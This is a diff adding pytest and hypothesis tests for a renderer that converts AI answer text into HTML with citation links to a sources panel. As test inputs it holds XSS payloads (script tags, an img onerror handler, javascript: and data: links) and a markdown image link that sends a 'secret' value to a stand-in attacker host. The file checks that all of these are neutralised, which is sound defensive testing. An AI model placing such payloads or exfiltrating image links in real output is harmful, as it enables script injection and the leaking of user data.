@@ -1,0 +1,62 @@
+from __future__ import annotations
+
+from bs4 import BeautifulSoup
+from hypothesis import given
+from hypothesis import strategies as st
+
+from answers.rendering import render_answer_html, sanitize_html
+
+
+def render(text: str, count: int = 3) -> str:
+    return render_answer_html(text, anchor_prefix="answer-7-source", source_count=count)
+
+
+def test_markers_become_links_to_sources_panel_entries():
+    soup = BeautifulSoup(render("Lambdas are small [1]. See also [2, 3]."), "html.parser")
+    hrefs = [a["href"] for a in soup.select("a.citation")]
+    assert hrefs == ["#answer-7-source-1", "#answer-7-source-2", "#answer-7-source-3"]
+
+
+def test_code_is_left_alone():
+    html = render("Use `a[1]` here [1].\n\n```python\nx = y[2]\n```\n")
+    soup = BeautifulSoup(html, "html.parser")
+    assert [c.get_text() for c in soup.find_all("code")] == ["a[1]", "x = y[2]\n"]
+    assert len(soup.select("a.citation")) == 1
+
+
+def test_raw_html_is_not_rendered():
+    html = render('<script>alert(1)</script> <img src=x onerror="alert(2)"> [1]')
+    soup = BeautifulSoup(html, "html.parser")
+    assert soup.find("script") is None and soup.find("img") is None
+    assert "&lt;script&gt;" in html
+
+
+def test_images_are_shown_as_text_not_loaded():
+    soup = BeautifulSoup(render("![secret](https://attacker.example/?q=secret) [1]"), "html.parser")
+    assert soup.find("img") is None
+    assert "[image: secret]" in soup.get_text()
+
+
+def test_dangerous_link_schemes_are_removed():
+    html = render("[click](javascript:alert(1)) [x](JaVaScRiPt:alert(1)) [y](data:text/html,hi)")
+    soup = BeautifulSoup(html, "html.parser")
+    for a in soup.find_all("a"):
+        href = a.get("href", "")
+        assert href.startswith(("http:", "https:", "mailto:", "#")) or not href
+
+
+def test_forged_placeholders_in_model_text_do_nothing():
+    html = render("\ue0009\ue001 forged [1]", count=1)
+    assert "#answer-7-source-9" not in html
+
+
+def test_links_get_safe_rel():
+    soup = BeautifulSoup(render("[docs](https://docs.python.org) [1]"), "html.parser")
+    link = soup.find("a", href="https://docs.python.org")
+    assert "noopener" in link["rel"] and "noreferrer" in link["rel"]
+
+
+@given(st.text(alphabet=st.sampled_from(list("ab [1]2`*_<>&\"'()!\n#-:/")), max_size=120))
+def test_sanitizing_the_output_again_changes_nothing(text):
+    html = render(text)
+    assert sanitize_html(html) == html
